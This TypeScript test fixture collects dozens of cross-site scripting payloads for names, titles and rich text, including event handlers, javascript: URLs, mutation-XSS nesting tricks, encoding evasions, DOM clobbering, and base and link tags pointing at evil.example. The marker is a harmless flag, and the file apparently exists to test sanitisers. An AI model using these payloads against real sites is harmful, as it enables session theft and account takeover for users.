const RUN = 'window.pwned=1';

/** Script injections that are short enough for a name or a title. */
const SHORT_ATTACKS = [
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `javascript:${RUN}//`,
  `\${${RUN}}{{${RUN}}}`,
];

/** The same for rich text: input that sanitisers, parsers and browsers interpret differently. */
const LONG_ATTACKS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT\t>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x\u000conerror=${RUN}>`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<img src="x\`\`onerror=${RUN}">`,
  `<body onload=${RUN}><frameset onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video><audio src onloadstart=${RUN}>`,
  `<p style="animation:x" onanimationstart=${RUN}>x</p><style>@keyframes x{}</style>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;script&colon;${RUN}">x</a>`,
  `<a href=" \u0001javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>opener.${RUN}</script>">x</a>`,
  `<a href="vbscript:x" ping="//evil.example">x</a>`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><foreignObject><iframe onload=${RUN}></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<template><img src=x onerror=${RUN}></template><template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<table><td><a href="https://a.example" title="</td></table><img src=x onerror=${RUN}>">x</a></td></table>`,
  `<table><tr><td><table><caption><img src=x onerror=${RUN}></caption></table>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext-x><!--><img src=x onerror=${RUN}>-->`,
  `<!--[if true]><img src=x onerror=${RUN}><![endif]-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `&lt;img src=x onerror=${RUN}&gt;&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<p id=__reactRouterContext>x</p><a id=cspViolations name=pwned href=x>x</a>`,
];

/** All attacks in one text that starts with harmless content. */
export const WRITTEN_ATTACK = `<p>Honest beginning.</p>${[...SHORT_ATTACKS, ...LONG_ATTACKS].map((each) => `<p>${each}</p>`).join('')}<p>Honest end.</p>`;

/** All short attacks that fit, in one line. */
export const makeAttackLine = (maxLength: number): string =>
  SHORT_ATTACKS.reduce((line, each) => (line.length + each.length < maxLength ? `${line}${each}` : line), '');
